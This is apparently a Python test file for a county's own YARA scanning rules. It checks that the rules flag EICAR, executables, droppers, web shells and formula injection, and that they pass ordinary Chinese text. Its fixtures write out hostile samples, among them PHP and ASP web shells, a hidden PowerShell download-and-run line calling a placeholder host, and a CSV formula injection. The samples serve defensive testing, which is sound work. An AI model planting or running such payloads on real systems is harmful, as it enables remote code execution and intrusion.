"""Each of the county's own YARA rules fires on what it is for, and not on ordinary text."""

from __future__ import annotations

from pathlib import Path

import pytest
import yara_x

from taihe.ground.errors import BadSetup
from taihe.ground.scanning.patterns import compiled, yara_folder

from . import samples
from .conftest import Look

SCRIPTS = {
    "malware-test": samples.eicar(),
    "executable": b"#!/bin/sh\nrm -rf x\n",
    "script-dropper": b'var s = new ActiveXObject("WScript.Shell"); s.Run("cmd");',
    "web-shell": b"<?php @eval($_POST['a']); ?>",
    "formula-injection": b"a,b\n=cmd|'/c calc'!A0,2\n",
}
DROPPERS = [
    b'Set s = CreateObject("Wscript.shell")\ns.run "calc"',
    b'x = new ActiveXObject("MSXML2.XMLHTTP"); (new ActiveXObject("ADODB.Stream")); s = "WScript.Shell"',
    b"<hta:application id=a>",
    '<HTA:APPLICATION id="a">'.encode("utf-16"),
    b"powershell -w hidden IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.7')",
    b"powershell.exe -enc " + b"QQBB" * 20,
]
SHELLS = [
    b"<% eval request(chr(97)) %>",
    b'<% Runtime.getRuntime().exec(request.getParameter("a")); %>',
    b"<?php system($_GET[1]);",
]


@pytest.mark.parametrize("code", SCRIPTS)
def test_rules_on_plain_files(look: Look, code: str) -> None:
    assert code in look("说明.txt", SCRIPTS[code]).codes


@pytest.mark.parametrize("source", DROPPERS)
def test_droppers(look: Look, source: bytes) -> None:
    assert "script-dropper" in look("说明.txt", source).codes


@pytest.mark.parametrize("source", SHELLS)
def test_web_shells(look: Look, source: bytes) -> None:
    assert "web-shell" in look("说明.txt", source).codes


def test_programs_of_other_systems(look: Look) -> None:
    for head in (b"\x7fELF\2\1\1", b"\xcf\xfa\xed\xfe\7\0\0\1", b"\xca\xfe\xba\xbe\0\0\0\x34"):
        assert "executable" in look("表.png", head + b"\0" * 60).codes
    assert look("批.txt", b"@ECHO OFF\r\ndel a").codes == {"executable"}


def test_a_program_behind_a_picture(look: Look) -> None:
    stub = b"MZ" + b"\x90" * 76 + b"This program " + b"cannot be run in DOS mode"
    assert look("照片.png", samples.PNG + stub).codes == {"embedded-executable"}


def test_ordinary_words_match_nothing(look: Look) -> None:
    words = "PowerShell 培训通知：请各单位学习 CreateObject 的用法，JavaScript 与 /Launch 课程另行通知。MZ PE <?php ?>"
    assert look("通知.txt", words.encode()).verdict == "clean"


def test_large_members_are_scanned_by_file(look: Look) -> None:
    data = bytes(range(1, 251)) * 4000 + samples.eicar()
    report = look("材料.zip", samples.zipped({"a.bin": data}))
    assert ("a.bin", "malware-test") in {(finding.member, finding.code) for finding in report.findings}


def test_every_rule_compiles_without_warnings_and_speaks_chinese() -> None:
    compiler = yara_x.Compiler(error_on_slow_pattern=True)
    compiler.define_global("family", "")
    compiler.define_global("kind", "")
    for file in sorted(yara_folder().glob("*.yar")):
        compiler.add_source(file.read_text("utf-8"))
    rules = list(compiler.build())
    assert compiler.warnings() == []
    assert len(rules) >= 15
    assert all(str(dict(rule.metadata)["sentence"]).endswith("。") for rule in rules)


@pytest.mark.parametrize(
    "source", ["", "rule broken {", "rule a { condition: true }", "rule a { meta: code = 1 condition: true }"]
)
def test_faulty_rules_stop_the_scanner_at_once(tmp_path: Path, source: str) -> None:
    if source:
        (tmp_path / "a.yar").write_text(source)
    with pytest.raises(BadSetup):
        compiled(tmp_path)
